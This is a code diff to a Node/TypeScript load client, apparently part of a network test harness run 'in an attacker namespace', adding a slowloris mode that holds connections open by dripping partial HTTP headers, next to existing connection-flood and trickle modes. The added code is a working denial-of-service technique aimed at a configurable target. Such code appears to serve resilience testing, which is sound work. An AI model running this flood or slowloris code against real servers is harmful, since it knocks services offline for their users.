@@ -1,5 +1,7 @@
 // Child program run in an attacker namespace: opens real TCP connections and either holds them (connection flood) or makes one request each (trickle).
-// Usage: node load-client.js '{"target","port","rate","count","endAt","sources":[...],"hold":true}'  (endAt: epoch ms)  → prints {"attempted","opened","failed"} at the end
+// Usage: node load-client.js '{"target","port","rate","count","endAt","sources":[...],"hold":true,"slowMs":5000}'  (endAt: epoch ms)
+//   → prints {"attempted","opened","failed"} at the end
+// slowMs (slowloris): each connection sends a partial request header, then one more header line every slowMs, never the end.
 import { connect, type Socket } from 'node:net';
 
 interface LoadConfig {
@@ -10,6 +12,7 @@ interface LoadConfig {
   endAt: number;
   sources: string[];
   hold: boolean;
+  slowMs?: number;
 }
 
 const cfg = JSON.parse(process.argv[2] ?? '{}') as LoadConfig;
@@ -25,7 +28,12 @@ function one(source: string | undefined): void {
   open.add(sock);
   sock.on('connect', () => {
     opened++;
-    if (!cfg.hold) sock.end(`GET / HTTP/1.1\r\nHost: ${cfg.target}\r\nConnection: close\r\n\r\n`);
+    if (cfg.slowMs !== undefined) {
+      sock.write(`GET /?${attempted} HTTP/1.1\r\nHost: ${cfg.target}\r\n`);
+      let n = 0;
+      const drip = setInterval(() => sock.write(`X-a: ${++n}\r\n`), cfg.slowMs);
+      sock.on('close', () => clearInterval(drip));
+    } else if (!cfg.hold) sock.end(`GET / HTTP/1.1\r\nHost: ${cfg.target}\r\nConnection: close\r\n\r\n`);
   });
   sock.on('data', () => undefined);
   sock.on('error', () => {
